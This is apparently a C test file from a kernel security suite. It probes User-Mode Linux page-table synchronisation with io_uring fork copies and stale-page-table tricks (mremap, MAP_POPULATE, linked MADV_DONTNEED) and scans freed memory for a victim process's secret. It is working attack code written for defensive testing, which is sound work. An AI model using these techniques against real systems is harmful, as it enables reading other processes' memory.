// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on arch/um's synchronisation of page tables. They only use system calls, and never
 * touch the stub.
 */
#include "hostile.h"

#include <linux/io_uring.h>

#define NOBODY		65534

void drop_privileges(void)
{
	if (setresgid(NOBODY, NOBODY, NOBODY) || setresuid(NOBODY, NOBODY, NOBODY))
		conclude(INCONCLUSIVE, "setresuid: %s", strerror(errno));
}

/* ---- io_uring, without a library */

struct ring {
	int fd;
	struct io_uring_sqe *entry;
	size_t size;		/* of the entries, in bytes */
	uint32_t *tail, *array;
};

static struct ring make_ring(unsigned int entries)
{
	struct io_uring_params p = { 0 };
	struct ring ring;
	char *queue;

	ring.fd = (int)syscall(SYS_io_uring_setup, entries, &p);
	if (ring.fd < 0 && errno == ENOSYS)
		conclude(SKIPPED, "this kernel has no io_uring");
	if (ring.fd < 0)
		conclude(INCONCLUSIVE, "io_uring_setup: %s", strerror(errno));
	ring.size = p.sq_entries * sizeof(*ring.entry);
	ring.entry = mmap(NULL, ring.size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
			  ring.fd, IORING_OFF_SQES);
	queue = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(uint32_t),
		     PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring.fd, IORING_OFF_SQ_RING);
	if (ring.entry == MAP_FAILED || queue == MAP_FAILED)
		conclude(INCONCLUSIVE, "mmap of an io_uring: %s", strerror(errno));
	ring.tail = (uint32_t *)(queue + p.sq_off.tail);
	ring.array = (uint32_t *)(queue + p.sq_off.array);
	return ring;
}

/* Submits the first @count entries, and waits for them in the kernel. */
static void run_ring(struct ring *ring, uint32_t count)
{
	uint32_t i;

	for (i = 0; i < count; i++)
		ring->array[(*ring->tail + i) % (ring->size / sizeof(*ring->entry))] = i;
	__atomic_store_n(ring->tail, *ring->tail + count, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, count, count, IORING_ENTER_GETEVENTS, NULL, 0) !=
	    (long)count)
		conclude(INCONCLUSIVE, "io_uring_enter: %s", strerror(errno));
}

/* ---- ring-fork: fork() copies many page-table entries at once */

#define RING_ENTRIES	4096	/* 64 pages */

static unsigned char ring_byte(size_t page)
{
	return (unsigned char)(1 + page % 255);
}

struct copied_ring {
	const unsigned char *bytes;
	size_t pages;
};

/* The forked child counts the pages that are not the ring's. */
static void look_at_ring(void *arg)
{
	const struct copied_ring *ring = arg;
	size_t i;

	for (i = 0; i < ring->pages; i++) {
		const unsigned char *page = ring->bytes + i * PAGE;

		if (page[0] == ring_byte(i) && !memcmp(page, page + 1, PAGE - 1))
			continue;
		shared->counter++;
		scan_for_secret((uintptr_t)page, PAGE);
	}
}

void ring_fork(void)
{
	struct copied_ring copy;
	struct ring ring;
	size_t i;
	int status;

	drop_privileges();
	ring = make_ring(RING_ENTRIES);
	copy.bytes = (const unsigned char *)ring.entry;
	copy.pages = ring.size / PAGE;
	for (i = 0; i < copy.pages; i++)
		memset((char *)ring.entry + i * PAGE, ring_byte(i), PAGE);
	step("reading a forked io_uring of %zu pages", copy.pages);
	status = in_child(look_at_ring, &copy);
	if (shared->counter)
		conclude(BREACHED, "after fork() %lu of %zu pages are not the ring's%s",
			 shared->counter, copy.pages,
			 shared->claimed ? ", some have the victim's secret" : "");
	if (status)
		conclude(BREACHED, "after fork() the ring of %zu pages cannot be read", copy.pages);
	conclude(BLOCKED, "after fork() all of %zu pages are the ring's", copy.pages);
}

/* ---- remap-stale: one call frees a page table and puts a new one in its place */

#define STALE_TABLES	4	/* for each level */
#define STALE_LEVELS	3
#define STALE_PLACES	(STALE_TABLES * STALE_LEVELS)
#define STALE_FEEDS	192	/* 16 pages each: more than a place has */

/*
 * Places of one lowest page table each. Places of the first level share the table of the next
 * level, those of the second level share the one above that, those of the third level share
 * none: freeing a place frees one, two or three tables.
 */
static char *stale_place(unsigned int i)
{
	static const unsigned int shift[STALE_LEVELS] = { 21, 30, 39 };
	uintptr_t level = i / STALE_TABLES, n = i % STALE_TABLES;

	return (char *)(((level + 1) << 44) + (n << (shift[level] + 1)));
}

static struct ring stale_ring;
static int short_file;	/* of one page */

static char *map_at(char *at, int flags, int fd)
{
	char *p = mmap(at, TABLE, PROT_READ | PROT_WRITE, flags | MAP_FIXED, fd, 0);

	if (p == MAP_FAILED)
		conclude(INCONCLUSIVE, "mmap: %s", strerror(errno));
	return p;
}

static void free_by_mremap(char *at)
{
	char *other = map_at((char *)(4UL << 44), MAP_PRIVATE | MAP_ANONYMOUS, -1);

	other[0] = 's';
	if (mremap(other, TABLE, TABLE, MREMAP_MAYMOVE | MREMAP_FIXED, at) == MAP_FAILED)
		conclude(INCONCLUSIVE, "mremap: %s", strerror(errno));
}

static void free_by_populate(char *at)
{
	map_at(at, MAP_SHARED | MAP_POPULATE, short_file);
}

/* One call of io_uring: MADV_DONTNEED, then a copy by the kernel to the same place. */
static void free_by_madvise(char *at)
{
	struct io_uring_sqe *entry = stale_ring.entry;

	memset(entry, 0, 2 * sizeof(*entry));
	entry[0].opcode = IORING_OP_MADVISE;
	entry[0].flags = IOSQE_IO_LINK;
	entry[0].addr = (uintptr_t)at;
	entry[0].len = TABLE;
	entry[0].fadvise_advice = MADV_DONTNEED;
	entry[1].opcode = IORING_OP_READ;
	entry[1].fd = short_file;
	entry[1].addr = (uintptr_t)at;
	entry[1].len = 1;
	run_ring(&stale_ring, 2);
}

/* Counts the pages of a place, but for the first one, that are not zero. */
static size_t count_kept(char *at, size_t *secrets)
{
	size_t offset, kept = 0;

	for (offset = PAGE; offset < TABLE; offset += PAGE) {
		if (!readable((uintptr_t)at + offset) || !at[offset])
			continue;
		kept++;
		*secrets += scan_for_secret((uintptr_t)at + offset, PAGE);
	}
	return kept;
}

static size_t keep_stale(const char *name, void (*free_table)(char *at), size_t *secrets)
{
	size_t kept = 0;
	unsigned int i;

	step("%s of filled page tables", name);
	for (i = 0; i < STALE_PLACES; i++) {
		map_at(stale_place(i), MAP_PRIVATE | MAP_ANONYMOUS, -1);
		memset(stale_place(i), 'A', TABLE);
		free_table(stale_place(i));
	}
	for (i = 0; i < STALE_FEEDS; i++)
		feed_victim();
	for (i = 0; i < STALE_PLACES; i++) {
		kept += count_kept(stale_place(i), secrets);
		munmap(stale_place(i), TABLE);
	}
	return kept;
}

void remap_stale(void)
{
	struct sigaction sa = { .sa_handler = probe_fault };
	size_t mremapped, populated, advised, secrets = 0;

	drop_privileges();
	stale_ring = make_ring(8);
	short_file = memfd_create("short", 0);
	if (short_file < 0 || ftruncate(short_file, PAGE))
		conclude(INCONCLUSIVE, "memfd: %s", strerror(errno));
	/* behind the file's end a load faults */
	sigaction(SIGBUS, &sa, NULL);
	mremapped = keep_stale("mremap() on top", free_by_mremap, &secrets);
	populated = keep_stale("MAP_FIXED | MAP_POPULATE on top", free_by_populate, &secrets);
	advised = keep_stale("MADV_DONTNEED and a copy by the kernel", free_by_madvise, &secrets);
	if (mremapped || populated || advised)
		conclude(BREACHED, "of %lu pages given back each time %zu (mremap), %zu (populate), %zu (madvise) were still there, the victim's secret in %zu",
			 STALE_PLACES * (TABLE / PAGE - 1), mremapped, populated, advised, secrets);
	conclude(BLOCKED, "%lu pages given back by mremap, as many by populate and by madvise: none was still there",
		 STALE_PLACES * (TABLE / PAGE - 1));
}
